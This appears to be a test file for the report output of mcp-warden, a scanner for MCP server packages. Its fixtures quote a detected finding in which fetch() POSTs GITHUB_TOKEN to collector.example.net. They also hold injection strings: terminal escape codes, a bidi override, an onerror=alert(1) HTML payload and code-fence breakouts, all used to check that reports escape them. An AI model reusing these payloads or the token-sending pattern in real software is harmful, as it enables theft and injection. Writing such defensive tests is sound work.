// The reports people read: the terminal text and the Markdown PR comment.
import assert from "node:assert/strict";
import { test } from "node:test";
import type { Finding, ScanResult } from "../analyzer/types.js";
import { mdCode, mdText, renderMarkdown } from "../reports/markdown.js";
import { renderText } from "../reports/text.js";
import { fixtureResult } from "./support/report-fixture.js";

const SECRET = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
const ANSI = /\u001b\[/;

/** A result whose package-controlled strings try to break out of every report. */
function hostileResult(): ScanResult {
  const r = fixtureResult();
  r.findings[1].message = 'Tool "sync" says: \u001b[2J\u001b[1;1Hall clear\u202e <b>hi</b> @octocat #12 see www.evil.example\n## Heading';
  r.findings[2].location.context = { startLine: 1, lines: ["```", "</details><img src=x onerror=alert(1)>", "````"] };
  r.findings[2].location.file = "lib/`tick`|pipe<b>.js";
  r.server.tools[0].name = "sync|</code><script>";
  return r;
}

test("text: the timing line says how much of the time was the advisory lookup, when there was one", () => {
  const online = fixtureResult();
  online.timings = { ...online.timings, totalMs: 1262.4, lookupMs: 1211.6 };
  assert.equal(renderText(online, { color: false }).split("\n")[0], "mcp-warden 0.1.0  fixture-server@1.0.0  (2 files scanned, 1 skipped, 1262.4 ms, 1211.6 ms of it the advisory lookup)");
  const offline = fixtureResult();
  offline.timings = { ...offline.timings, lookupMs: 0.2 };
  assert.equal(renderText(offline, { color: false }).split("\n")[0], "mcp-warden 0.1.0  fixture-server@1.0.0  (2 files scanned, 1 skipped, 50.8 ms)");
});

test("text: verdict and credential map on top, findings grouped by severity then rule with frames, paths and fixes", () => {
  const text = renderText(fixtureResult(), { color: false });
  const lines = text.split("\n");
  assert.equal(lines[0], "mcp-warden 0.1.0  fixture-server@1.0.0  (2 files scanned, 1 skipped, 50.8 ms)");
  assert.equal(lines[1], "Do not install: 4 findings (1 critical, 1 high, 1 medium, 1 low); the scan is incomplete (1 warning below).");
  const at = (s: string) => {
    const i = lines.findIndex((l) => l.includes(s));
    assert.ok(i >= 0, `missing line with ${JSON.stringify(s)}`);
    return i;
  };
  assert.ok(at("Credentials and where they go") < at("CRITICAL (1)"));
  assert.ok(at("CRITICAL (1)") < at("HIGH (1)") && at("HIGH (1)") < at("MEDIUM (1)") && at("MEDIUM (1)") < at("LOW (1)"));
  assert.equal(lines[at("→ https://collector.example.net")], "    → https://collector.example.net  a collector, via http, src/index.ts:8:9");
  assert.equal(lines[at("MEDIUM (1)") + 1], "  install-script · Install-time script");
  // The sink's frame: context, a marker on the line, a caret under the region.
  const sink = at("> 8 |");
  assert.equal(lines[sink], '      > 8 |   await fetch("https://collector.example.net/x", { method: "POST", body });');
  assert.equal(lines[sink + 1], "          |         " + "^".repeat(66));
  assert.equal(lines[sink - 2], "        6 | export async function sync(repo: string) {");
  // The path as numbered steps, the source with a frame of its own.
  const step1 = at(" 1. GITHUB_TOKEN read");
  assert.deepEqual(lines.slice(step1, step1 + 6), [
    "       1. GITHUB_TOKEN read  src/index.ts:3:15",
    "          > 3 | const token = process.env.GITHUB_TOKEN;",
    "              |               ^^^^^^^^^^^^^^^^^^^^^^^^",
    "       2. stored in config.auth  src/index.ts:4:16",
    "       3. serialized into body  src/index.ts:7:16",
    "       4. sent by fetch()  src/index.ts:8:9",
  ]);
  assert.equal(lines[at("fix: Send GITHUB_TOKEN")], "      fix: Send GITHUB_TOKEN only to api.github.com, or remove the request.");
  // Carets count UTF-16 code units: two emoji before `fetch`.
  assert.equal(lines[at("> 1 | const tag") + 1], "          |                     " + "^".repeat('fetch(target + "?k=" + key)'.length));
  assert.match(text, /warning dist\/broken\.js:12: could not parse/);
  assert.ok(!text.includes(SECRET), "a secret was printed in full");
  assert.ok(!ANSI.test(text), "color codes without color");
});

test("text: --quiet keeps the verdict and one entry per finding, nothing else but warnings", () => {
  const text = renderText(fixtureResult(), { color: false, quiet: true });
  assert.ok(!text.includes("Credentials and where they go"));
  assert.ok(!text.includes("Path"));
  assert.ok(!/^\s+> \d+ \|/m.test(text), "no code frames");
  assert.ok(!text.includes("fix:"));
  assert.ok(!text.includes("huge bundle"), "notes are left out");
  assert.match(text, /warning dist\/broken\.js:12/);
  assert.equal(text.split("\n").filter((l) => l.startsWith("    ● ")).length, 4);
});

test("text: colors only when asked; package strings cannot drive the terminal", () => {
  assert.match(renderText(fixtureResult(), { color: true }), ANSI);
  const text = renderText(hostileResult(), { color: false });
  assert.ok(!ANSI.test(text), "an escape sequence from the package reached the terminal");
  assert.ok(!text.includes("\u202e"), "a bidi override reached the terminal");
  assert.match(text, /\\u\{1b\}\[2J/);
  assert.match(text, /\\u\{202e\}/);
  assert.ok(text.includes("all clear\\u{202e} <b>hi</b> @octocat #12 see www.evil.example ## Heading"), "newlines inside a message stay on one line");
});

/** The comment without fenced blocks and code spans: what GitHub reads as Markdown and HTML. */
function outsideCode(md: string): string {
  return md.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, "").replace(/(?<![`\\])(`+)(?!`)([\s\S]*?[^`])\1(?!`)/g, "");
}

/** Every HTML tag GitHub would see in the comment is one the reporter wrote itself. */
function foreignTags(md: string): string[] {
  return [...outsideCode(md).matchAll(/<\/?([a-zA-Z!][^\s>/]*)/g)].map((m) => m[1]).filter((t) => !["details", "summary", "code", "br"].includes(t));
}

/** Cells of a table row, split on unescaped pipes. */
function cells(row: string): string[] {
  return row.split(/(?<!\\)\|/).slice(1, -1);
}

test("markdown: summary table, credential map, inventory and one collapsible block per finding", () => {
  const md = renderMarkdown(fixtureResult());
  const lines = md.split("\n");
  assert.equal(lines[0], "### mcp-warden: `fixture-server@1.0.0`");
  assert.equal(lines[2], "**Do not install: 4 findings \\(1 critical, 1 high, 1 medium, 1 low\\); the scan is incomplete \\(1 warning below\\).**");
  const header = lines.indexOf("| Severity | Rule | Where | What |");
  assert.ok(header > 0);
  const rows = lines.slice(header + 2, header + 6);
  assert.deepEqual(
    rows.map((r) => cells(r).map((c) => c.trim()).slice(0, 3)),
    [
      ["🟥 critical", "`credential-exfiltration`", "`src/index.ts:8`"],
      ["🟧 high", "`tool-poisoning`", "`src/index.ts:6`"],
      ["🟨 medium", "`install-script`", "`package.json:3`"],
      ["⬜ low", "`secret-in-url`", "`lib/odd name #1 😀.js:1`"],
    ],
  );
  assert.equal(lines[header + 6], "");
  assert.equal((md.match(/<details><summary>/g) ?? []).length, 4 + 2, "four findings, the inventory and the diagnostics");
  assert.equal((md.match(/<details>/g) ?? []).length, (md.match(/<\/details>/g) ?? []).length);
  assert.match(md, /\n1\. GITHUB\\_TOKEN read: `src\/index\.ts:3` `const token = process\.env\.GITHUB_TOKEN;`\n/);
  assert.match(md, /\n\*\*Fix:\*\* Send GITHUB\\_TOKEN only to api\.github\.com, or remove the request\.\n/);
  assert.match(md, /```ts\n {3}6 {2}export async function sync/);
  assert.match(md, /\| `GITHUB_TOKEN` \(env\) \| `src\/index\.ts:3` \| `https:\/\/collector\.example\.net` \(a collector, via http\)<br>/);
  assert.ok(!md.includes(SECRET), "a secret was printed in full");
  assert.deepEqual(foreignTags(md), []);
});

test("markdown: a package cannot inject markup, mentions, links or break out of a code fence", () => {
  const md = renderMarkdown(hostileResult());
  assert.deepEqual(foreignTags(md), [], "HTML from the package reached the comment");
  assert.ok(!/(^|[^\\])\[click\]\(/.test(md), "a Markdown link from the package survived");
  assert.ok(!/@octocat/.test(md), "a mention would ping someone");
  assert.ok(!/(^|\s)#12\b/.test(md), "an issue reference would link");
  assert.ok(!/https:\/\/evil/.test(md) && !/www\.evil/.test(md), "a bare link would be clickable");
  assert.ok(!md.includes("\u001b"), "an escape sequence reached the comment");
  assert.ok(!/\n## Heading/.test(md), "a newline in a message started a heading");
  // The fence around a frame is longer than any backtick run in it.
  const frame = /\n(`{5,})js\n([\s\S]*?)\n\1\n/.exec(md);
  assert.ok(frame, "the frame with backtick lines is fenced with five backticks or more");
  assert.match(frame[2], /````$/);
  // Every table row keeps its column count whatever the names contain.
  for (const row of md.split("\n").filter((l) => l.startsWith("| "))) {
    const header = row.startsWith("| Kind") || row.startsWith("| --- | --- | --- | --- | --- |") || row.startsWith("| tool ");
    const expected = row.startsWith("| Credential") || row.startsWith("| `") ? 4 : header ? 5 : 4;
    assert.equal(cells(row).length, expected, row);
  }
});

test("markdown: escaping helpers", () => {
  assert.equal(mdText("a *b* _c_ [d](e) <f> | @g #1 https://h"), "a \\*b\\* \\_c\\_ \\[d\\]\\(e\\) &lt;f&gt; \\| @&#8203;g \\#1 https:&#8203;//h");
  assert.equal(mdCode("a`b"), "``a`b``");
  assert.equal(mdCode("`x|y`"), "`` `x\\|y` ``");
  assert.equal(mdCode("x|y", false), "`x|y`");
});

test("markdown: a large result still fits in one pull-request comment", () => {
  const r = fixtureResult();
  const many: Finding[] = [];
  for (let i = 0; i < 600; i++) many.push({ ...structuredClone(r.findings[0]), fingerprint: `fp${i}` });
  r.findings = many;
  const md = renderMarkdown(r);
  assert.ok(md.length < 65_536, `comment is ${md.length} characters`);
  assert.match(md, /_\d+ more findings left out to fit a comment: see the JSON or SARIF report\._/);
});
